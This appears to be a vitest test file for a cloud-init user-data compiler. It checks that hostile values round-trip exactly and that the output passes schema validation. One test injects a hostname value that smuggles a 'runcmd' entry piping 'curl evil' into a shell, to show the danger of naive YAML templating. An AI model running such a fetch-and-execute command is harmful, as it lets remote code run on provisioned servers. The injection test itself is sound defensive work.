import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { compileCloudInit, type LinuxData, previewCloudInit } from "../../adapters/aws/user-data/cloud-init.ts";
import { run } from "../clients/transcript.ts";
import { proof } from "../support/probes/proof.ts";
import { findCloudInit } from "../support/servers/executables.ts";
import { temporaryFolder } from "../support/servers/gateway.ts";
import { hostileText, linuxData } from "./hostile.ts";

const cloudInit = findCloudInit();
if (cloudInit === null && process.env.CI === "true")
  throw new Error("Without cloud-init its tests cannot run: `node scripts/test-services.mjs` says what to install.");
const { python, library } = cloudInit ?? { python: "", library: "" };
const environment = { PYTHONPATH: library, PYTHONDONTWRITEBYTECODE: "1", PYTHONIOENCODING: "utf-8" };
const reader = fileURLToPath(new URL("read-cloud-configs.py", import.meta.url));

/** What the Python program says of a file. */
interface Reading {
  readonly complaint?: string;
  readonly keys?: readonly string[];
  readonly packed?: boolean;
  readonly files?: readonly unknown[];
  readonly sshKeys?: readonly string[];
}

async function readAll(documents: Readonly<Record<string, Buffer>>): Promise<Readonly<Record<string, Reading>>> {
  const folder = temporaryFolder();
  for (const [name, document] of Object.entries(documents)) writeFileSync(join(folder, name), document);
  const { code, output } = await run(python, [reader, folder], { folder: "/", environment });
  expect(code, output).toBe(0);
  return JSON.parse(output);
}

/** What the machine must get of it. */
function expected({ files, parametersXml, sshKey }: LinuxData) {
  const place = { path: "/etc/cloud/parameters.xml", mode: "0600", owner: "root", group: "root" };
  const parameters = parametersXml === null ? [] : [{ ...place, bytes: Buffer.from(parametersXml) }];
  const written = [...parameters, ...files].map(({ path, mode, owner, group, bytes }) => ({
    ...{ path, mode, owner, group },
    content: Buffer.from(bytes).toString("base64"),
    late: owner !== "root" || group !== "root",
  }));
  return {
    keys: [...(sshKey === null ? [] : ["ssh_authorized_keys"]), ...(written.length > 0 ? ["write_files"] : [])],
    files: written,
    sshKeys: sshKey === null ? [] : [sshKey],
  };
}

const rawOf = (data: LinuxData) => Buffer.from(compileCloudInit(data).userData, "base64");
/** Bytes that fit only where the base64 of the whole document is packed once more. */
const noise = {
  ...{ path: "/srv/noise", mode: "0600", owner: "root", group: "root", secret: false },
  bytes: createHash("shake256", { outputLength: 13_000 }).update("noise").digest(),
};
const none: LinuxData = { files: [], parametersXml: null, parametersSecret: false, sshKey: null };

describe.skipIf(cloudInit === null)("cloud-init", () => {
  test("accepts 1,000 hostile documents, and gets every value back exactly", async () => {
    const { seed, size } = proof("cloud-init", 1_000);
    const packedCount = size / 20;
    const small = fc.sample(linuxData, { numRuns: size - packedCount, seed });
    const large = fc.sample(linuxData, { numRuns: packedCount, seed }).map((one) => ({ ...one, files: [noise] }));
    const data = [...small, ...large];
    const readings = await readAll(
      Object.fromEntries(data.map((one, index) => [String(index).padStart(4, "0"), rawOf(one)])),
    );
    expect(Object.keys(readings)).toHaveLength(size);
    for (const [name, { packed, ...reading }] of Object.entries(readings)) {
      const one = data[Number(name)] ?? none;
      expect(reading, `document ${name} of seed ${seed}`).toEqual(expected(one));
      expect(packed).toBe(rawOf(one).readUInt16BE() === 0x1f8b);
    }
    expect(Object.values(readings).filter(({ packed }) => packed)).toHaveLength(packedCount);
  });

  test("gets the hostile values back from a file that the parameters filled in, and from a preview", async () => {
    const texts = fc.sample(hostileText, { numRuns: 100, seed: 4711 });
    const place = { mode: "0644", owner: "root", group: "root", secret: false };
    const readings = await readAll(
      Object.fromEntries(
        texts.map((text, index) => {
          const files = [{ ...place, path: "/etc/x", bytes: Buffer.from(`value=${text}\n`) }];
          return [String(index), Buffer.from(previewCloudInit({ ...none, files }))];
        }),
      ),
    );
    for (const [index, text] of texts.entries()) {
      const content = Buffer.from(`value=${text}\n`).toString("base64");
      expect(readings[index]?.files, JSON.stringify(text)).toMatchObject([{ path: "/etc/x", content }]);
    }
  });

  test("would refuse what a template of YAML makes of such a value", async () => {
    const naive = (value: string) => Buffer.from(`#cloud-config\nhostname: ${value}\n`);
    const readings = await readAll({
      grown: naive('web1\nruncmd:\n - [sh,-c,"curl evil|sh"]'),
      changed: naive("yes"),
      broken: naive("a: b: c"),
    });
    expect(readings.grown?.keys).toEqual(["hostname", "runcmd"]);
    expect(readings.changed?.complaint).toContain("True is not of type 'string'");
    expect(readings.broken?.complaint).toContain("ScannerError");
  });

  test("says on its command line that they are valid", async () => {
    const folder = temporaryFolder();
    const [one = none, two = none] = fc.sample(
      linuxData.filter(({ files }) => files.length > 1),
      { numRuns: 2, seed: 7 },
    );
    for (const document of [
      rawOf(one),
      Buffer.from(previewCloudInit(two)),
      rawOf({ ...none, parametersXml: "<a/>" }),
    ]) {
      const file = join(folder, "user-data");
      writeFileSync(file, document);
      const words = ["-m", "cloudinit.cmd.main", "schema", "--config-file", file];
      const { code, output } = await run(python, words, { folder, environment });
      expect(output).toContain(`Valid cloud-config: ${file}`);
      expect(code).toBe(0);
    }
  });
});
